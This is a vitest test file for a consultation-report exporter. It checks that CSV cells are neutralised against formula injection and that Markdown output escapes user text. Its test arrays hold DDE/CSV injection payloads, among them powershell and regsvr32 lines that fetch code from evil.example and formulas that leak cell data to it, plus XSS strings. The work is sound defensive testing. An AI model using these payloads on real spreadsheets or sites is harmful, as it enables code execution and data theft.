import { readFileSync } from 'node:fs'
import path from 'node:path'
import { createInstance, type TFunction } from 'i18next'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import ReactMarkdown from 'react-markdown'
import { describe, expect, test } from 'vitest'
import {
	type ConsultationReport,
	countText,
	csvCell,
	escapeMarkdown,
	groupCount,
	isFormulaLike,
	markdownCode,
	markdownQuote,
	publishParticipation,
	REPORT_FORMAT,
	REPORT_NAMESPACES,
	type ReportIssue,
	reportFilename,
	toCsv,
	toCsvChunks,
	toCsvRows,
	toJson,
	toJsonChunks,
	toMarkdown,
} from '#app/domain/report.ts'

// ---------------------------------------------------------------------------------------------
// A small RFC 4180 reader: quoted and unquoted fields, doubled quotes, CR/LF inside quotes, CRLF records.

function parseCsv(text: string): string[][] {
	const rows: string[][] = []
	let row: string[] = []
	let field = ''
	let i = 0
	let quoted = false
	while (i < text.length) {
		const c = text[i]!
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				field += '"'
				i += 2
			} else if (c === '"') {
				quoted = false
				i++
			} else {
				field += c
				i++
			}
		} else if (c === '"') {
			if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`)
			quoted = true
			i++
		} else if (c === ',') {
			row.push(field)
			field = ''
			i++
		} else if (c === '\r' && text[i + 1] === '\n') {
			row.push(field)
			rows.push(row)
			row = []
			field = ''
			i += 2
		} else if (c === '\r' || c === '\n') {
			throw new Error(`bare line break outside quotes at ${i}`)
		} else {
			field += c
			i++
		}
	}
	if (quoted) throw new Error('unterminated quoted field')
	if (field !== '' || row.length) throw new Error('last record does not end with CRLF')
	return rows
}

// Cells a spreadsheet would run as formulas: each must come back with a leading single quote.
const formulas: string[] = [
	'=1+1',
	"+cmd|' /C calc'!A0",
	'-2+3',
	'@SUM(A1)',
	'\t=1',
	'\r=1',
	'  =1',
	' \t+1',
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
	"=cmd|' /C calc'!A0",
	'=DDE("cmd";"/C calc";"!A0")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"=cmd|'/c powershell IEX(wget evil.example/p)'!A0",
	"=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
	'=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
	'=WEBSERVICE("http://evil.example/"&A1)',
	'=IMAGE("http://evil.example/x.png")',
	'=SUM(1,2)',
	'=1+1,=2+2',
	'="a""b"',
	'=A1\n=B1',
	'=A1\r\n+B1',
	'@"quoted, with comma"',
	'+"a,b"\n"c"',
	'-1e10',
	'=',
	'+',
	'-',
	'@',
	'\tplain text after a tab',
	'\rplain text after a carriage return',
	'\t\r=1',
	'\n=1',
	'\r\n-1',
	'  \t  -cmd',
	'=1+1 ',
	'\u00a0=1', // no-break space
	'\u3000=1', // ideographic space
	'\ufeff=1', // a BOM inside the cell
	'\u2028+1', // line separator
	// Full-width and small forms fold to = + - @ under NFKC: neutralised too (see csvCell).
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'   ＝HYPERLINK("http://evil.example")',
	'﹦1',
	'﹢1',
	'﹣1',
	'﹫x',
]

// Ordinary text that must come back unchanged.
const plain: string[] = [
	'',
	'hello',
	'a=1',
	'1+1',
	'user@example.org',
	"'=1",
	'"quoted"',
	'a,b',
	'line1\nline2',
	'line1\r\nline2',
	'−1', // U+2212 MINUS SIGN is not a formula start in any spreadsheet
	'٣+٤',
	'Sample h-000',
	'#1',
	'%0A=1',
	'caricature; stereotype',
	'لا توجد مشكلة',
	'“smart quotes”',
]

describe('CSV cells are formula-safe and RFC 4180', () => {
	test('the corpus is big enough to mean something', () => {
		expect(formulas.length).toBeGreaterThanOrEqual(40)
	})

	test.each(formulas.map((p) => [JSON.stringify(p), p]))('neutralises %s', (_, payload) => {
		expect(isFormulaLike(payload)).toBe(true)
		const cell = csvCell(payload)
		expect(cell.startsWith(`"'`)).toBe(true)
		expect(cell.endsWith('"')).toBe(true)
		const [[back]] = parseCsv(`${cell}\r\n`) as [[string]]
		expect(back).toBe(`'${payload}`)
		// What a spreadsheet now sees starts with a quote: text, not a formula.
		expect(isFormulaLike(back)).toBe(false)
	})

	test.each(plain.map((p) => [JSON.stringify(p), p]))('keeps %s as it is', (_, payload) => {
		expect(isFormulaLike(payload)).toBe(false)
		const [[back]] = parseCsv(`${csvCell(payload)}\r\n`) as [[string]]
		expect(back).toBe(payload)
	})

	test('every cell is quoted, inner quotes doubled, records end with CRLF', () => {
		expect(csvCell('a"b')).toBe('"a""b"')
		expect(csvCell(null)).toBe('""')
		expect(csvCell(undefined)).toBe('""')
		expect(csvCell(12)).toBe('"12"')
		expect(csvCell(true)).toBe('"true"')
		expect(
			toCsv([
				['a', 'b'],
				['c', 'd'],
			]),
		).toBe('"a","b"\r\n"c","d"\r\n')
	})

	test('a whole table of hostile cells round-trips, one record per row', () => {
		const rows = [...formulas, ...plain].map((p, i) => [String(i), p, `${p}|${p}`])
		const back = parseCsv(toCsv(rows))
		expect(back).toHaveLength(rows.length)
		back.forEach((row, i) => {
			const expected = rows[i]!.map((c) => (isFormulaLike(c) ? `'${c}` : c))
			expect(row).toEqual(expected)
		})
	})
})

// ---------------------------------------------------------------------------------------------
// Markdown

function loadT(lng: string): TFunction {
	const resources: Record<string, Record<string, unknown>> = {}
	for (const ns of REPORT_NAMESPACES) resources[ns] = JSON.parse(readFileSync(path.resolve('locales', lng, `${ns}.json`), 'utf8'))
	const i18n = createInstance()
	void i18n.init({ lng, fallbackLng: 'en', ns: REPORT_NAMESPACES, defaultNS: 'report', resources: { [lng]: resources }, initImmediate: false, interpolation: { escapeValue: false } })
	return i18n.getFixedT(lng, REPORT_NAMESPACES)
}

// CommonMark as the app renders it; raw HTML dropped, so HTML recognised in user text would vanish.
const render = (md: string) => renderToStaticMarkup(createElement(ReactMarkdown, { skipHtml: true }, md))
const decode = (html: string) =>
	html
		.replace(/<[^>]+>/g, '')
		.replaceAll('&lt;', '<')
		.replaceAll('&gt;', '>')
		.replaceAll('&quot;', '"')
		.replaceAll('&#x27;', "'")
		.replaceAll('&amp;', '&')

const hostile = [
	'[click me](javascript:alert(1))',
	'![tracker](https://evil.example/pixel.png)',
	'<img src=x onerror=alert(1)>',
	'<script>alert(1)</script>',
	'<https://evil.example>',
	'https://evil.example/phish',
	'www.evil.example',
	'_www.evil.example',
	'mail me: someone@evil.example',
	'@huggingface please look',
	'[ref]: https://evil.example',
	'[ref]',
	'# Not a heading',
	'## Not a section',
	'- not a list',
	'+ not a list',
	'1. not a list',
	'3) not a list',
	'> not a quote',
	'=== not an underline',
	'--- not a rule',
	'| breaks | the | table |',
	'**bold** and *em* and ~~strike~~ and `code`',
	'&lt;b&gt; entity &#x5B;x&#x5D;(y)',
	'$\\frac{1}{2}$ math',
	'back\\slash \\[still text\\](x)',
	'line one\n## injected heading\n<b>x</b>',
	'tab\there',
]

const issue = (over: Partial<ReportIssue>): ReportIssue => ({
	number: 1,
	kind: 'sample',
	sample: 'h-000',
	templateTarget: null,
	useCase: null,
	status: 'resolved',
	resolution: 'documented',
	needsReReview: false,
	blocking: false,
	blockingReasons: [],
	teamCall: null,
	categories: ['stereotype'],
	maxSeverity: 'major',
	flags: 2,
	flaggers: 2,
	affectedGroups: [],
	publicResponse: '',
	carriedOver: false,
	similarSamples: 0,
	...over,
})

function reportWith(text: string): ConsultationReport {
	const count = { community: groupCount(4), expert: groupCount(1) }
	return {
		format: REPORT_FORMAT,
		generatedAt: '2030-01-02T03:04:05.000Z',
		dataset: { slug: 'hints', name: text },
		version: { label: 'v1', status: 'approved', parent: null, createdAt: '2030-01-01T00:00:00.000Z', sampleCount: 4 },
		provenance: {
			modelName: text,
			modelVersion: '',
			modelProvider: '',
			generationMethod: 'templates',
			promptTemplates: `Write about {persona}.\n\`\`\`\n# ${text}\n\`\`\`\`\n`,
			personaDefinitions: '',
			seedDataDescription: text,
			knownLimitations: text,
			changelog: '',
		},
		rounds: [
			{
				title: text,
				stage: 'validation',
				status: 'closed',
				opensAt: null,
				closesAt: null,
				openedAt: '2030-01-01T00:00:00.000Z',
				closedAt: '2030-01-02T00:00:00.000Z',
				selection: { mode: 'stratified', size: null, seed: 7, attribute: text, perValue: 2 },
				sampleCount: 4,
				overlap: 2,
				blindReview: true,
				blockThreshold: 2,
				opposedBlocks: true,
				participation: count,
			},
		],
		participation: { ...count, minGroupSize: 3 },
		signals: {
			status: 'succeeded',
			computedAt: '2030-01-01T00:00:00.000Z',
			samples: 4,
			distinct2: 0.5,
			attributes: [text, 'persona.other'],
			attribute: text,
			values: [{ value: text, samples: 4, share: 1, distinct2: 0.25, lowDiversity: true, terms: [{ term: text, z: 5.25, count: 3 }] }],
		},
		summary: {
			issues: 3,
			open: 1,
			acknowledged: 0,
			resolved: 2,
			blocking: 1,
			blockingSamples: 3,
			resolutions: { removed: 0, regenerated: 0, documented: 1, not_an_issue: 1, use_case_revised: 0, use_case_narrowed: 0 },
			listed: 3,
		},
		issues: [
			issue({ number: 1, sample: text, publicResponse: text }),
			issue({ number: 2, kind: 'use_case', sample: null, useCase: text, resolution: 'not_an_issue', publicResponse: text }),
			issue({ number: 3, status: 'open', resolution: null, blocking: true, blockingReasons: ['critical'], sample: text, similarSamples: 2 }),
		],
		overrides: { current: null, history: [{ at: '2030-01-01T12:00:00.000Z', overriddenBlockers: 1, blockers: [3], justification: text }] },
		roundApprovals: [{ at: '2030-01-01T12:00:00.000Z', choice: 'keep_open', rounds: [text], justification: text }],
		gate: { status: 'approved', blocked: true, blockingIssues: 1, openIssues: 1 },
	}
}

/** Positions of `ch` not escaped by a backslash (an even run of backslashes before it). */
function unescaped(md: string, pattern: RegExp): number {
	let n = 0
	for (const m of md.matchAll(pattern)) {
		let slashes = 0
		for (let i = m.index - 1; i >= 0 && md[i] === '\\'; i--) slashes++
		if (slashes % 2 === 0) n++
	}
	return n
}

describe('markdown escaping', () => {
	const t = loadT('en')
	const safeReport = toMarkdown(reportWith('Plain title'), t)
	const baseline = render(safeReport)
	const headingsOf = (html: string) => html.match(/<h[1-6]>/g) ?? []
	const tagsOf = (html: string) => [...html.matchAll(/<([a-z][a-z0-9]*)/g)].map((m) => m[1])

	test.each(hostile.map((h) => [JSON.stringify(h), h]))('%s stays text wherever user text goes', (_, text) => {
		const md = toMarkdown(reportWith(text), t)
		const html = render(md)
		// The same elements, in the same order, as with a plain title: no link, image, heading, list,
		// emphasis or code of the user's making; nothing parsed as HTML (it would have been dropped).
		expect(tagsOf(html)).toEqual(tagsOf(baseline))
		expect(html).not.toMatch(/<a[\s>]|<img[\s>]/)
		// The text itself survives, whitespace collapsed (outside the code block).
		expect(decode(html)).toContain(text.replace(/\s+/g, ' ').trim())
		// GFM (the Hub, GitHub) also autolinks bare URLs, www. and emails, and the Hub links @mentions.
		// (Code blocks are verbatim and never autolinked.)
		const prose = md.replace(/^(`{3,})text\n[\s\S]*?\n\1$/gm, '')
		expect(unescaped(prose, /:\/\//g)).toBe(0)
		expect(unescaped(prose, /www\./gi)).toBe(0)
		expect(unescaped(prose, /@/g)).toBe(0)
	})

	test('table rows have exactly as many cells as their header', () => {
		for (const text of hostile) {
			const lines = toMarkdown(reportWith(text), t).split('\n')
			let columns = 0
			for (const line of lines) {
				if (!line.startsWith('| ')) {
					columns = 0
					continue
				}
				const n = unescaped(line, /\|/g)
				if (!columns) columns = n
				expect(n, `${JSON.stringify(text)}: ${line}`).toBe(columns)
			}
		}
	})

	test('escapeMarkdown: one line, every special escaped, the text kept', () => {
		expect(escapeMarkdown('a\nb\r\nc\td')).toBe('a b c d')
		expect(escapeMarkdown('[x](y)')).toBe('\\[x\\](y)')
		expect(escapeMarkdown('![x](y)')).toBe('!\\[x\\](y)')
		expect(escapeMarkdown('<b>')).toBe('\\<b\\>')
		expect(escapeMarkdown('https://x.example')).toBe('https\\://x.example')
		expect(escapeMarkdown('WWW.x.example')).toBe('WWW\\.x.example')
		expect(escapeMarkdown('- item')).toBe('\\- item')
		expect(escapeMarkdown('12. item')).toBe('12\\. item')
		expect(escapeMarkdown('a|b')).toBe('a\\|b')
		expect(escapeMarkdown('\u0000bell\u0007')).toBe('bell')
	})

	test('a quote keeps paragraphs and escapes each line', () => {
		expect(markdownQuote('one\n\n\n- two\r\n# three\n')).toBe('> one\n>\n> \\- two\n> \\# three')
	})

	test('a code block cannot be closed from inside', () => {
		const md = markdownCode('a\n````\n# b\n`````x')
		expect(md.startsWith('``````text\n')).toBe(true)
		const html = render(md)
		expect(headingsOf(html)).toEqual([])
		expect(decode(html)).toContain('# b')
	})

	test('the section is a "## Community consultation" with its subsections, in each language', () => {
		expect(safeReport.startsWith('## Community consultation\n')).toBe(true)
		expect(safeReport.match(/^### .+$/gm)).toEqual([
			'### Provenance of the synthetic data',
			'### Consultation rounds',
			'### Who took part',
			'### What the text says about each group',
			'### Issues raised and how they were handled',
			'### Limitations documented after the consultation',
			'### Responses to feedback',
			'### Approval despite blocking issues',
			'### Approval with a round open or below its coverage target',
			'### Status when this report was generated',
		])
		expect(safeReport).toContain('| Plain title | 4 | fewer than 3 |')
		expect(safeReport).toContain('Resolutions: Documented 1, Not an issue 1.')
		// An approval with a round still open: the owner's choice and written reason.
		expect(safeReport).toContain('On 2030-01-01, an owner approved this version with the round “Plain title” still open or below its coverage target. Their written reason:\n\n> Plain title')
		for (const lng of ['es', 'fr', 'ar']) {
			const md = toMarkdown(reportWith('Plain title'), loadT(lng))
			expect(md).not.toContain('report:')
			expect(md).not.toContain('Community consultation')
			expect(md).not.toContain('fewer than')
			expect(md.match(/^### /gm)).toHaveLength(10)
		}
		const arabic = toMarkdown(reportWith('x'), loadT('ar'))
		expect(arabic).toContain('أقل من 3')
		// Lists are joined the reader's way; unused resolutions are left out.
		expect(arabic).toContain('التوثيق 1 وليست مشكلة 1')
		expect(arabic).not.toContain('الحذف 0')
	})
})

describe('small groups and names', () => {
	test('1 and 2 are suppressed, 0 and 3+ are shown', () => {
		expect([0, 1, 2, 3, 10].map(groupCount)).toEqual([
			{ count: 0, shown: 'exact' },
			{ count: null, shown: 'fewer_than_min' },
			{ count: null, shown: 'fewer_than_min' },
			{ count: 3, shown: 'exact' },
			{ count: 10, shown: 'exact' },
		])
	})

	test('a total that would give away a small round is withheld', () => {
		const exact = (n: number) => ({ count: n, shown: 'exact' as const })
		const small = { count: null, shown: 'fewer_than_min' as const }
		// Round B's 2 experts would follow from 7 − 5.
		expect(
			publishParticipation(
				[
					{ community: 5, expert: 5 },
					{ community: 4, expert: 2 },
				],
				{ community: 6, expert: 7 },
			),
		).toEqual({
			rounds: [
				{ community: exact(5), expert: exact(5) },
				{ community: exact(4), expert: small },
			],
			total: { community: exact(6), expert: { count: null, shown: 'withheld' } },
		})
		// One round: the total is that round, suppressed alike.
		expect(publishParticipation([{ community: 2, expert: 0 }], { community: 2, expert: 0 }).total).toEqual({ community: small, expert: exact(0) })
		// No rounds.
		expect(publishParticipation([], { community: 0, expert: 0 })).toEqual({ rounds: [], total: { community: exact(0), expert: exact(0) } })
		const t = loadT('en')
		expect(countText(t, { count: null, shown: 'withheld' })).toMatch(/^withheld/)
		expect(countText(t, small)).toBe('fewer than 3')
		expect(countText(t, exact(0))).toBe('0')
	})

	test('filenames are <slug>-<label>-consultation.<ext>', () => {
		expect(reportFilename({ dataset: { slug: 'hints' }, version: { label: 'v1.2' } }, 'csv')).toBe('hints-v1.2-consultation.csv')
		expect(reportFilename({ dataset: { slug: 'a"b' }, version: { label: 'x\r\ny' } }, 'md')).toBe('a_b-x__y-consultation.md')
	})

	test('CSV rows: a header, then one row per issue with language-independent codes', () => {
		const rows = toCsvRows(reportWith('=cmd'))
		expect(rows[0]).toEqual(['number', 'about', 'status', 'resolution', 'blocking', 'categories', 'max_severity', 'flaggers', 'public_response', 'version', 'similar_samples'])
		expect(rows.map((r) => r.at(-1))).toEqual(['similar_samples', '0', '0', '2'])
		expect(rows.slice(1).map((r) => r.slice(0, 8))).toEqual([
			['1', 'sample:=cmd', 'resolved', 'documented', 'false', 'stereotype', 'major', '2'],
			['2', 'use_case:=cmd', 'resolved', 'not_an_issue', 'false', 'stereotype', 'major', '2'],
			['3', 'sample:=cmd', 'open', '', 'true', 'stereotype', 'major', '2'],
		])
		const back = parseCsv(toCsv(rows))
		expect(back[1]![8]).toBe("'=cmd")
	})
})

describe('streamed downloads are the same bytes as the whole ones', () => {
	async function* batches<T>(items: T[], size: number) {
		for (let i = 0; i < items.length; i += size) yield items.slice(i, i + size)
		yield [] // an empty batch changes nothing
	}
	const joined = async (chunks: AsyncIterable<string>) => {
		let text = ''
		for await (const c of chunks) text += c
		return text
	}
	const many = (text: string, n: number) => {
		const r = reportWith(text)
		return { ...r, issues: Array.from({ length: n }, (_, k) => ({ ...r.issues[k % r.issues.length]!, number: k + 1 })) }
	}

	test.each([0, 1, 3, 7])('%i issues, in batches of 1, 2 and 5, hostile text included', async (n) => {
		for (const text of ['Plain', ...hostile.slice(0, 12), '"issues": [\n', '\n  "issues": "\u0000issues\u0000"']) {
			const report = many(text, n)
			for (const size of [1, 2, 5]) {
				const head = { ...report, issues: [] }
				expect(await joined(toJsonChunks(head, batches(report.issues, size)))).toBe(toJson(report))
				expect(await joined(toCsvChunks(head, batches(report.issues, size)))).toBe(toCsv(toCsvRows(report)))
			}
		}
	})
})
